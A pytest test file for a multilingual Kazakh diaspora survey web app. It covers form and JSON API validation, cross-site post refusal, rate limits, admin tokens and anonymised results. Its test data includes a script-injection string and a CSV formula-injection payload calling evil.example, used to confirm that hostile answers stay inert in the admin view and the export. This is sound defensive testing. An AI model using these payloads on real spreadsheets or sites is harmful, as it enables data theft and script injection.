"""The survey in the web app: the form, the JSON API's rules, protections and anonymity."""

from __future__ import annotations

import re

import pytest
from survey_helpers import ADMIN_TOKEN, VALID_ANSWERS, make_client

HOSTILE_TEXT = "<script>alert('x')</script>"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def submission_id_of(html: str) -> str:
    return re.search(r'name="submission_id" value="([^"]+)"', html).group(1)


def test_form_page_is_private_and_explains_what_is_kept(client):
    page = client.get("/s/kz")
    assert page.status_code == 200
    assert page.headers["cache-control"] == "no-store"
    assert "set-cookie" not in page.headers
    assert "What is kept:" in page.text and "What is not kept:" in page.text
    assert "your name, your IP address, your device or browser, cookies, or the time of day." in page.text
    assert '<form class="survey-form" method="post"' in page.text
    assert "<script" not in page.text  # works without JavaScript
    assert "Following news and events in Kazakhstan matters to me" in page.text


def test_form_in_russian_and_kazakh(client):
    assert "Мне важно следить за новостями и событиями в Казахстане" in client.get("/s/kz?lang=ru").text
    assert "Қазақстандағы жаңалықтар мен оқиғаларды бақылау мен үшін маңызды" in client.get("/s/kz?lang=kk").text
    assert "Что сохраняется:" in client.get("/s/kz?lang=ru").text
    # The built-in questionnaire's title too (a form's own title is shown as written).
    assert "<h1>Казахи за рубежом: идентичность, язык и связи с Казахстаном</h1>" in client.get("/s/kz?lang=ru").text
    assert "<h1>Шетелдегі қазақтар: бірегейлік, тіл және Қазақстанмен байланыс</h1>" in client.get("/s/kz?lang=kk").text


def test_form_post_stores_and_thanks(client, survey_app):
    sid = submission_id_of(client.get("/s/kz").text)
    reply = client.post("/s/kz", data={"submission_id": sid, **VALID_ANSWERS}, follow_redirects=False)
    assert reply.status_code == 303 and reply.headers["location"] == "/s/kz/thanks?lang=en"
    assert "Your answers have been saved." in client.get(reply.headers["location"]).text
    # Sending the same page twice stores it once.
    client.post("/s/kz", data={"submission_id": sid, **VALID_ANSWERS}, follow_redirects=False)
    stored = survey_app.state.web.survey_store.responses("kz")
    assert len(stored) == 1 and stored[0]["answers"]["home_language"] == "mainly_kazakh"
    assert stored[0]["origin"] == "web"


def test_form_post_validation_messages(client):
    reply = client.post("/s/kz", data={**VALID_ANSWERS, "identity_news": "9", "home_language": "",
                                       "favourite_colour": "red"})
    assert reply.status_code == 422
    # The summary names each question by its label and links to its first input; an unknown field
    # has nothing to link to.
    assert ('<a href="#f-identity_news">Following news and events in Kazakhstan matters to me</a>: '
            "&#39;9&#39; is not one of the choices") in reply.text
    assert re.search(r'<a href="#f-home_language">[^<]+</a>: this question needs an answer', reply.text)
    assert "<li>favourite_colour: this field is not part of the form</li>" in reply.text
    assert 'id="f-identity_news" type="radio" name="identity_news" value="1" required aria-invalid="true"' \
        in reply.text
    # The respondent's other answers are kept in the page.
    assert 'value="mainly_kazakh"' not in reply.text or 'name="home_language" value="mainly_kazakh" checked' not in reply.text
    assert 'name="gender" value="female" checked' in reply.text


def api(client, answers, submission_id="client-sub-0001", **headers):
    return client.post("/s/kz/submissions", json={"submission_id": submission_id, "answers": answers}, headers=headers)


def test_api_created_replay_conflict(client, survey_app):
    first = api(client, VALID_ANSWERS)
    assert first.status_code == 201 and first.json() == {"submission_id": "client-sub-0001", "status": "stored"}
    replay = api(client, VALID_ANSWERS)
    assert replay.status_code == 201 and replay.json() == first.json() and replay.headers["x-replayed"] == "true"
    conflict = api(client, {**VALID_ANSWERS, "identity_news": "1"})
    assert conflict.status_code == 409
    assert conflict.json()["error"] == "submission client-sub-0001 was already received with other answers"
    assert survey_app.state.web.survey_store.count("kz") == 1


def test_api_validation_messages(client):
    reply = api(client, {**VALID_ANSWERS, "age_band": "42", "unknown": "x", "country_of_residence": None})
    assert reply.status_code == 422
    assert reply.json()["problems"] == [
        {"field": "unknown", "message": "this field is not part of the form"},
        {"field": "age_band", "message": "'42' is not one of the choices"},
        {"field": "country_of_residence", "message": "this question needs an answer"},
    ]
    # In the client's language (Accept-Language or ?lang=), like the form's own constraint messages.
    russian = api(client, {**VALID_ANSWERS, "age_band": "42"}, **{"accept-language": "ru-RU,ru;q=0.9"})
    assert russian.json()["problems"] == [{"field": "age_band", "message": "«42» не входит в варианты ответа"}]
    assert api(client, VALID_ANSWERS, submission_id="x").status_code == 400
    bad_shape = client.post("/s/kz/submissions", json={"submission_id": "client-sub-0002", "answers": {}, "ip": "1"})
    assert bad_shape.status_code == 400
    assert client.post("/s/kz/submissions", content=b"{}", headers={"content-type": "text/plain"}).status_code == 415
    assert api(client, VALID_ANSWERS).headers["cache-control"] == "no-store"


def test_body_size_cap(client):
    big = {**VALID_ANSWERS, "comments": "x" * 70_000}
    assert api(client, big).status_code == 413
    reply = client.post("/s/kz", data=big)
    assert reply.status_code == 413
    assert reply.headers["cache-control"] == "no-store"


@pytest.mark.parametrize("headers", [{"origin": "https://evil.example"}, {"sec-fetch-site": "cross-site"},
                                     {"origin": "null"}, {"sec-fetch-site": "same-site"}])
def test_cross_site_posts_are_refused(client, survey_app, headers):
    assert client.post("/s/kz", data=VALID_ANSWERS, headers=headers).status_code == 403
    assert api(client, VALID_ANSWERS, **headers).status_code == 403
    assert client.post("/s/kz/admin/export", data={"token": ADMIN_TOKEN}, headers=headers).status_code == 403
    assert survey_app.state.web.survey_store.count("kz") == 0


def test_same_origin_post_is_accepted(client):
    headers = {"origin": "http://testserver", "sec-fetch-site": "same-origin"}
    assert client.post("/s/kz", data=VALID_ANSWERS, headers=headers, follow_redirects=False).status_code == 303


@pytest.mark.slow  # posts until the rate limit refuses (about 1 s)
def test_rate_limit_in_memory(tmp_path, monkeypatch):
    from diaspora_observatory.web.app import create_app

    monkeypatch.setenv("DIASPORA_SURVEY_RATE_LIMIT", "3")
    app = create_app(data_dir=tmp_path / "data")
    client = make_client(app)
    codes = [api(client, VALID_ANSWERS, submission_id=f"rate-limit-{n:04d}").status_code for n in range(5)]
    assert codes == [201, 201, 201, 429, 429]
    app.state.web.survey_store.close()


def test_hostile_answers_are_inert_everywhere(client):
    answers = {**VALID_ANSWERS, "comments": HOSTILE_TEXT}
    assert api(client, answers, submission_id="hostile-0001").status_code == 201
    assert api(client, {**VALID_ANSWERS, "comments": HOSTILE_FORMULA}, submission_id="hostile-0002").status_code == 201
    results = client.get("/s/kz/results").text
    assert "<script>alert" not in results and "HYPERLINK" not in results  # free text is never published
    admin = client.post("/s/kz/admin", data={"token": ADMIN_TOKEN})
    assert admin.status_code == 200
    assert "<script>alert" not in admin.text
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in admin.text
    export = client.post("/s/kz/admin/export", data={"token": ADMIN_TOKEN})
    assert export.status_code == 200 and export.headers["cache-control"] == "no-store"
    assert "\n" + "hostile-0002" in export.text
    assert ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"" in export.text
    assert ",=HYPERLINK" not in export.text and ',"=HYPERLINK' not in export.text


def test_admin_needs_the_token(client, survey_app):
    assert client.get("/s/kz/admin").status_code == 200  # the token form
    assert client.post("/s/kz/admin/export", data={"token": "wrong"}).status_code == 403
    assert client.post("/s/kz/admin/export").status_code == 403
    assert client.post("/s/kz/admin/close", data={"token": "wrong"}).status_code == 403
    assert survey_app.state.web.survey_store.get_survey("kz").status == "open"


def test_admin_close_reopen_delete(client, survey_app):
    assert client.post("/s/kz/admin/close", data={"token": ADMIN_TOKEN}).status_code == 200
    assert client.get("/s/kz").status_code == 410
    assert api(client, VALID_ANSWERS).status_code == 410
    client.post("/s/kz/admin/open", data={"token": ADMIN_TOKEN})
    assert api(client, VALID_ANSWERS).status_code == 201
    assert client.post("/s/kz/admin/delete", data={"token": ADMIN_TOKEN, "confirm": "nope"}).status_code == 400
    assert client.post("/s/kz/admin/delete", data={"token": ADMIN_TOKEN, "confirm": "kz"}).status_code == 200
    assert client.get("/s/kz").status_code == 404


def test_share_page_and_qr_code(client):
    share = client.get("/s/kz/share")
    assert share.status_code == 200
    assert 'value="http://testserver/s/kz"' in share.text and 'src="/s/kz/qr.svg"' in share.text
    qr = client.get("/s/kz/qr.svg")
    assert qr.status_code == 200 and qr.headers["content-type"].startswith("image/svg+xml")
    assert "<svg" in qr.text and "<path" in qr.text


def test_generated_admin_token_is_stored_hashed(tmp_path, monkeypatch, capsys):
    from diaspora_observatory.access import check_admin_token, ensure_admin_token, token_file

    monkeypatch.delenv("DIASPORA_ADMIN_TOKEN", raising=False)
    token = ensure_admin_token(tmp_path)
    written = tmp_path / "survey" / "admin-token.txt"
    # the token goes to a file only its owner reads, and only that file's path to stderr (kept in service logs)
    assert token and token not in capsys.readouterr().err and written.read_text() == f"{token}\n"
    assert written.stat().st_mode & 0o777 == 0o600 and token_file(tmp_path).stat().st_mode & 0o777 == 0o600
    assert token not in token_file(tmp_path).read_text()
    assert check_admin_token(tmp_path, token) and not check_admin_token(tmp_path, token + "x")
    assert ensure_admin_token(tmp_path) is None  # only at first start


def test_results_page_merges_small_counts(client, survey_app):
    store = survey_app.state.web.survey_store
    for number in range(24):
        answers = {**VALID_ANSWERS, "home_language": "mainly_kazakh" if number < 23 else "russian_only",
                   "identity_news": "3" if number % 2 else "4"}
        assert api(client, answers, submission_id=f"results-{number:04d}").status_code == 201
    assert store.count("kz") == 24
    data = client.get("/s/kz/results.json").json()
    home = next(item for item in data["items"] if item["item"] == "home_language")
    # 0, 23, 0, 1: the small ones (0, 0, 1) pooled hold fewer than 10, so the 23 joins them: one group.
    assert [(row["categories"], row["count"]) for row in home["groups"]] == [
        (["kazakh_only", "mainly_kazakh", "mainly_russian", "russian_only"], 24)]
    news = next(item for item in data["items"] if item["item"] == "identity_news")
    assert [(row["label"], row["count"]) for row in news["groups"]] == [
        ("Not important at all – Moderately important", 12), ("Important – Very important", 12)]
    means = {row["item"]: row for row in data["means"]}
    assert means["identity_news"]["mean"] is None and means["identity_news"]["n"] is None  # merged: no moments
    page = client.get("/s/kz/results")
    assert page.status_code == 200 and "The study&#39;s published figures" in page.text
    assert "Merged so that every group holds at least 10 answers: <strong>Not important at all – Moderately " \
           "important</strong>; <strong>Important – Very important</strong>." in page.text
    assert '<link rel="alternate" type="text/csv" href="/s/kz/results.csv">' in page.text
    russian = client.get("/s/kz/results?lang=ru").text  # the published figures' codes by their names
    assert "<td>доля, %</td><td>в основном казахский</td>" in russian and "<td>недоступно</td>" in russian
    assert "Срез 1 от " in russian
    csv_text = client.get("/s/kz/results.csv").text
    assert csv_text.splitlines()[0] == "item,group,categories,label,count,share,ci_low,ci_high,n,merged,snapshot,source"
    # Published figures need no token; for Excel the same file starts with a byte order mark.
    excel = client.get("/s/kz/results.csv?bom=1")
    assert excel.status_code == 200 and excel.content.startswith(b"\xef\xbb\xbf")
    assert excel.content[3:] == client.get("/s/kz/results.csv").content and not csv_text.startswith("\ufeff")
    assert '<a href="/s/kz/results.csv?bom=1">CSV for Excel</a>' in page.text
    assert '<a href="/s/kz/results.csv?bom=1">Excel үшін CSV</a>' in client.get("/s/kz/results?lang=kk").text
    assert client.get("/s/kz/likert.svg").headers["content-type"].startswith("image/svg+xml")
    crosstab = client.get("/s/kz/results?row=identity_news&by=gender")
    assert crosstab.status_code == 200 and "Cross-tabulation" in crosstab.text
    assert "This cross-tabulation cannot be shown: one of the questions has fewer than two groups of at least 10 " \
           "answers." in crosstab.text


def test_unknown_survey_pages(client):
    assert client.get("/s/nope").status_code == 404
    assert api(client, VALID_ANSWERS).status_code == 201
    assert client.post("/s/nope/submissions", json={"submission_id": "abcdefgh", "answers": {}}).status_code == 404


@pytest.mark.slow  # builds its own app
def test_server_shutdown_closes_the_survey_store(tmp_path, monkeypatch):
    """The app's lifespan closes what extensions opened: the writer thread stops, connections close."""
    from diaspora_observatory.web.app import create_app

    monkeypatch.delenv("DIASPORA_DATABASE_URL", raising=False)
    app = create_app(data_dir=tmp_path / "data")
    store = app.state.web.survey_store
    writer, = store._committer.threads  # SQLite: one writer thread
    with make_client(app) as client:
        assert api(client, VALID_ANSWERS, submission_id="shutdown-0001").status_code == 201
        assert writer.is_alive()
    assert not writer.is_alive() and store._committer is None


@pytest.mark.slow  # builds its own app
def test_a_storage_failure_is_a_json_500_without_a_trace(tmp_path, monkeypatch, caplog):
    from diaspora_observatory.web.app import create_app

    monkeypatch.delenv("DIASPORA_DATABASE_URL", raising=False)
    app = create_app(data_dir=tmp_path / "data")
    store = app.state.web.survey_store

    def broken(*_args, **_kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(store, "submit_awaited", broken)
    reply = api(make_client(app), VALID_ANSWERS, submission_id="broken-0001")
    assert reply.status_code == 500 and reply.headers["cache-control"] == "no-store"
    assert reply.json() == {"error": "the server could not store this submission; try again"}
    assert "disk full" not in reply.text and "Traceback" not in reply.text
    assert "survey submission failed" in caplog.text  # the trace goes to the server's log
    store.close()


def test_each_test_starts_from_the_survey_state_of_a_new_app(tmp_path, survey_app, client):
    """The app is built once per session (conftest.py); fresh_survey_state must leave nothing of one test
    for the next: no answer, no survey state, no rate-limit or token-attempt count, no cached survey."""
    from survey_helpers import fresh_survey_state, survey_views

    assert api(client, VALID_ANSWERS, submission_id="isolation-0001").status_code == 201
    assert client.post("/s/kz/admin/close", data={"token": "wrong"}).status_code == 403
    assert client.post("/s/kz/admin/close", data={"token": ADMIN_TOKEN}).status_code == 200
    views = survey_views(survey_app)
    assert views.limiter._events and views._surveys and survey_app.state.web.token_attempts._failures
    fresh_survey_state(survey_app, f"sqlite:///{tmp_path / 'next-test.sqlite3'}")
    store = survey_app.state.web.survey_store
    assert [(row["slug"], row["status"], row["responses"]) for row in store.list_surveys()] == [("kz", "open", 0)]
    assert views.store is store and not views.limiter._events and not views.survey_limiter._events
    assert not views._surveys and not survey_app.state.web.token_attempts._failures
    # Every attribute the views keep is one fresh_survey_state replaces (or one that never changes): a new
    # piece of state must be reset there, and named here. ("pages", the results page's worker pool, is kept: the
    # pages it holds are keyed by their store's cache token, so a new store never finds an old store's page.)
    assert set(vars(views)) == {"web", "store", "pages", "limiter", "survey_limiter", "public_url", "max_body",
                                "_surveys", "_checkers"}
    assert not views._checkers
    assert api(client, VALID_ANSWERS, submission_id="isolation-0001").json() == {"submission_id": "isolation-0001",
                                                                                "status": "stored"}


def test_the_json_api_is_the_first_route_tried_and_other_routes_answer_as_before(client, survey_app):
    """Starlette tries routes in order; the JSON API (survey.web.FIRST_ROUTES) is tried first, so a submission
    is not matched against every page's pattern first. Moving it must change no answer: other methods on its
    address are still refused with 405 and the pages and the form still answer."""
    assert survey_app.routes[0].name == "survey_api"
    assert client.get("/s/kz/submissions").status_code == 405
    assert api(client, VALID_ANSWERS, submission_id="first-route-0001").status_code == 201
    assert client.get("/").status_code == 200 and client.get("/s/kz").status_code == 200


def test_the_answer_checker_is_kept_per_survey_record_and_a_replaced_form_gets_a_new_one(client, survey_app):
    """The JSON API checks answers with a checker built once per survey record (not once per submission); a
    record read anew, as after a replaced form, gets its own, so the new form's rules apply at once."""
    from dataclasses import replace

    from survey_helpers import survey_views

    views = survey_views(survey_app)
    assert api(client, VALID_ANSWERS, submission_id="checker-0001").status_code == 201
    record, checker = views._checkers["kz"]
    assert api(client, VALID_ANSWERS, submission_id="checker-0002").status_code == 201
    assert views._checkers["kz"] == (record, checker) and views._checkers["kz"][1] is checker
    # The form is replaced (without gender) and the cached record's moment passes.
    views._surveys["kz"] = (0.0, views._surveys["kz"][1])
    store = survey_app.state.web.survey_store
    smaller = replace(record.form, questions=[question for question in record.form.questions
                                              if question.name != "gender"])
    store.add_survey("kz", smaller, replace=True)
    assert "gender" not in [q.name for q in store.get_survey("kz").form.questions], "replace did not take"
    reply = api(client, VALID_ANSWERS, submission_id="checker-0003")
    assert reply.status_code == 422
    assert reply.json()["problems"] == [{"field": "gender", "message": "this field is not part of the form"}]
    assert views._checkers["kz"][1] is not checker
